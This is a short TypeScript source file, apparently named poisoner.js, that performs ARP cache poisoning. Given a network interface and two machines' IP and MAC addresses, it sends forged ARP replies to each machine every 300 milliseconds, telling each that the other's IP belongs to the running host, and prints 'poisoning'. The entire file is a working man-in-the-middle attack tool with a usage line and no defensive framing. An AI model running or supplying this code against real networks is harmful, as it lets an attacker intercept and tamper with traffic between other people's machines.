/** Claims to each of two machines to be the other, until it is stopped: `node poisoner.js IFACE ADDRESS MAC ADDRESS MAC`. */

import {
  ETHER_TYPE_ARP,
  encodeArpPacket,
  encodeEthernetFrame,
  type Ipv4Address,
  type MacAddress,
  parseIpv4,
  parseMac,
} from '@vip/arp';
import {openLink} from '@vip/arp/link';

const [iface = '', ip = '', mac = '', otherIp = '', otherMac = ''] = process.argv.slice(2);
const link = openLink({iface, filter: 'arp'});

function tell(targetMac: MacAddress, targetIp: Ipv4Address, senderIp: Ipv4Address): void {
  const payload = encodeArpPacket({
    operation: 'reply',
    senderMac: link.mac,
    senderIp,
    targetMac,
    targetIp,
  });
  link.send(
    encodeEthernetFrame({
      destination: targetMac,
      source: link.mac,
      tags: [],
      etherType: ETHER_TYPE_ARP,
      payload,
    }),
  );
}

setInterval(() => {
  tell(parseMac(mac), parseIpv4(ip), parseIpv4(otherIp));
  tell(parseMac(otherMac), parseIpv4(otherIp), parseIpv4(ip));
}, 300);
console.log('poisoning');
